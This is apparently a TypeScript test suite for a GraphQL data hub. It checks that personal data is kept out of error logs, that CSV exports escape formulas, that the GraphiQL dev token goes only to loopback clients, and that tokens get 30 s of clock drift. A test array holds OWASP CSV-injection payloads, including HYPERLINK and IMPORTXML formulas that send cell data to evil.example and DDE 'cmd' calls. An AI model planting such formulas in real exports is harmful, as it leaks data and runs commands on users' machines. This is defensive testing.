import type { TypedDocumentNode } from '@graphql-typed-document-node/core';
import { parse } from 'csv-parse/sync';
import { Client } from 'pg';
import { writeCsv } from '../src/csv';
import { isLoopbackAddress } from '../src/loopback';
import { AuditExportDocument, MyNameDocument, OpenCaseIdDocument, type OpenCaseInput } from './generated/graphql';
import { gqlAt } from './support/app';
import { authHeader, tokenFor } from './support/auth';
import { useCleanup } from './support/cleanup';
import { startCapturingHub, type CapturingHub } from './support/capturing-hub';
import { createTestDatabase, type TestDatabase } from './support/db';
import { runOverSocket } from './support/ws';
import { acceptedUntil, credentialExpired } from '../src/modules/access/viewer';
import { createClient } from 'graphql-ws';
import WebSocket from 'ws';

/**
 * Personal data stays where the audit can see it: not in the log when a write fails, not as a live
 * formula in a CSV. And the development conveniences stay on the developer's machine: GraphiQL's
 * ready-made token goes only to loopback clients; tokens get the 30 s of clock drift the README promises.
 */

let db: TestDatabase;
let hub: CapturingHub;
const cleanup = useCleanup();

async function ownerSql<R = Record<string, unknown>>(sql: string, params: unknown[] = []): Promise<R[]> {
  const client = new Client({ connectionString: db.url });
  await client.connect();
  try {
    return (await client.query(sql, params)).rows as R[];
  } finally {
    await client.end();
  }
}

function gql<T, V>(document: TypedDocumentNode<T, V>, variables: V, headers: Record<string, string>) {
  return gqlAt(hub.url, document, variables, headers);
}

beforeAll(async () => {
  db = await createTestDatabase();
  cleanup(() => db.drop());
  // Trace level: every line the hub can write, SQL statements included.
  hub = await startCapturingHub(db, { AUTH_DEV_TOKENS: 'true', GRAPHIQL: 'true', OVERDUE_CHECK_SECONDS: '86400' }, 'trace');
  cleanup(() => hub.close());
});

describe('a write that fails in the database', () => {
  const MARKER = 'ZZMARKER Quentin Privatesson';
  const BIRTH = '1911-11-11';
  const NOTE = 'ZZMARKERNOTE lives with his aunt';

  beforeAll(async () => {
    // A failure the hub cannot foresee (so it is logged as unexpected), whose detail repeats the row,
    // as PostgreSQL's own "Failing row contains (…)" does.
    await ownerSql(`
      create function test_refuse_marker() returns trigger language plpgsql as $$
      begin
        if new.name like 'ZZMARKER%' then
          raise exception using message = 'refused by the test trigger for ' || new.name, detail = 'Failing row contains (' || new.name || ', ' || coalesce(new.date_of_birth::text, '') || ').', table = tg_table_name;
        end if;
        return new;
      end $$;
      create trigger test_refuse_marker before insert on case_person for each row execute function test_refuse_marker();
    `);
  });

  it('logs the statement and the error code, never the names, dates of birth or notes it carried', async () => {
    const input: OpenCaseInput = {
      groupId: '1',
      title: 'Noise from a flat',
      category: 'ANTI_SOCIAL_BEHAVIOUR',
      wardCode: 'E05012999',
      lsoaCode: 'E01007718',
      location: 'Parade, Kimberworth Park',
      riskLevel: 'MEDIUM',
      leadAgencyId: '1',
      people: [{ name: MARKER, role: 'RESIDENT', dateOfBirth: BIRTH }],
      addresses: [{ address: '3 The Parade', postcode: 'S61 3AA' }],
      note: NOTE,
    };
    const from = hub.lines.length;
    const res = await gql(OpenCaseIdDocument, { input }, await authHeader('seed:north-chair'));
    expect(res.body.errors?.[0]?.extensions?.code).toBe('INTERNAL_SERVER_ERROR');
    const lines = hub.lines.slice(from);
    const failure = lines.find((l) => l.msg === 'unexpected error');
    expect(failure).toBeDefined();
    // What the operator needs: the error code, where, and the statement with placeholders.
    expect(failure!.err).toMatchObject({ code: 'P0001', table: 'case_person' });
    expect(String((failure!.err as { sql?: string }).sql)).toMatch(/insert into "case_person"/);
    for (const line of lines) {
      const text = JSON.stringify(line);
      expect(text).not.toContain('ZZMARKER');
      expect(text).not.toContain(BIRTH);
      expect(text).not.toContain('lives with his aunt');
    }
  });
});

/** The classic CSV injection payloads (OWASP), each one a formula a spreadsheet would run. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
];

describe('CSV the hub writes', () => {
  it('neutralises every cell a spreadsheet would read as a formula, and leaves other cells alone', () => {
    const csv = writeCsv(['a', 'b'], [...PAYLOADS.map((p) => [p, 'plain']), ['-', 'a=b'], [-5, "it's"]]);
    const rows = parse<{ a: string; b: string }>(csv, { columns: true, relax_column_count: false });
    expect(rows.slice(0, PAYLOADS.length).map((r) => r.a)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rows.map((r) => r.b)).toEqual([...PAYLOADS.map(() => 'plain'), 'a=b', "it's"]);
    // A number is a number, not a formula; a lone "-" is still text a spreadsheet could take as one.
    expect(rows[PAYLOADS.length].a).toBe("'-");
    expect(rows[PAYLOADS.length + 1].a).toBe('-5');
  });

  it('auditExport writes purposes such as =HYPERLINK(…) as text, not live formulas', async () => {
    const [{ id: first }] = await ownerSql<{ id: string }>(
      `insert into audit_entry (user_id, user_name, organisation, role, purpose, operation, case_ids)
       select 1, 'Nadia Exampleton', '=Neighbourhoods', 'CHAIR', p, 'READ', '{987654}' from unnest($1::text[]) with ordinality as t(p, n)
       order by n returning id`,
      [PAYLOADS],
    );
    expect(first).toBeDefined();
    const res = await gql(AuditExportDocument, { caseId: '987654' }, await authHeader('seed:admin'));
    expect(res.body.errors).toBeUndefined();
    const rows = parse<Record<string, string>>(res.body.data!.auditExport, { columns: true });
    expect(rows.map((r) => r.purpose)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rows.every((r) => r.organisation === "'=Neighbourhoods")).toBe(true);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('GraphiQL in development', () => {
  it('hands its analyst token to a browser on this machine', async () => {
    const page = await (await fetch(hub.url.replace('/graphql', '/graphiql'))).text();
    expect(page).toMatch(/Bearer eyJ/);
  });

  it('hands no token to a request a proxy passed on from elsewhere', async () => {
    const proxied: Record<string, string>[] = [{ 'x-forwarded-for': '203.0.113.9' }, { forwarded: 'for=203.0.113.9' }];
    for (const header of proxied) {
      const page = await (await fetch(hub.url.replace('/graphql', '/graphiql'), { headers: header })).text();
      expect(page).toContain('<title>Partnership Data Hub · GraphiQL</title>');
      expect(page).not.toMatch(/Bearer eyJ/);
    }
  });

  it('counts only loopback addresses as this machine', () => {
    for (const a of ['127.0.0.1', '127.8.9.10', '::1', '::ffff:127.0.0.1']) expect(isLoopbackAddress(a)).toBe(true);
    for (const a of ['10.0.0.5', '192.168.1.2', '::ffff:10.0.0.5', 'fe80::1', '0.0.0.0', '::', undefined])
      expect(isLoopbackAddress(a)).toBe(false);
  });
});

describe('30 s of clock tolerance on token expiry', () => {
  // Expired 10 s ago by the hub's clock: within the drift the README allows, so still accepted.
  const justExpired = () => tokenFor('seed:north-chair', { ttlSeconds: -10 });
  // Expired 2 minutes ago: beyond it.
  const longExpired = () => tokenFor('seed:north-chair', { ttlSeconds: -120 });

  it('over HTTP', async () => {
    const ok = await gql(MyNameDocument, {}, { authorization: `Bearer ${await justExpired()}` });
    expect(ok.body.errors).toBeUndefined();
    expect(ok.body.data!.me.name).toBeTruthy();
    const late = await gql(MyNameDocument, {}, { authorization: `Bearer ${await longExpired()}` });
    expect(late.body.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
  });

  it('on a websocket', async () => {
    const token = await justExpired();
    const client = createClient({
      url: hub.url.replace(/^http/, 'ws'),
      webSocketImpl: WebSocket,
      retryAttempts: 0,
      connectionParams: { authorization: `Bearer ${token}` },
    });
    try {
      const result = await runOverSocket(client, MyNameDocument);
      expect(result.errors).toBeUndefined();
      expect(result.data?.me.name).toBeTruthy();
    } finally {
      await client.dispose();
    }
  });

  it('in the one rule every later check uses (requests, socket operations, subscription re-checks and expiry timers)', () => {
    const exp = new Date('2030-01-01T12:00:00Z');
    expect(acceptedUntil({ credential: 'jwt', expiresAt: exp })).toEqual(new Date('2030-01-01T12:00:30Z'));
    expect(credentialExpired({ credential: 'jwt', expiresAt: exp }, new Date('2030-01-01T12:00:29Z'))).toBe(false);
    expect(credentialExpired({ credential: 'jwt', expiresAt: exp }, new Date('2030-01-01T12:00:30Z'))).toBe(true);
    // An API key's expiry is the hub's own setting, on the hub's own clock: no drift to allow for.
    expect(credentialExpired({ credential: 'api-key', expiresAt: exp }, new Date('2030-01-01T12:00:00Z'))).toBe(true);
    expect(acceptedUntil({ credential: 'jwt', expiresAt: null })).toBeNull();
  });
});
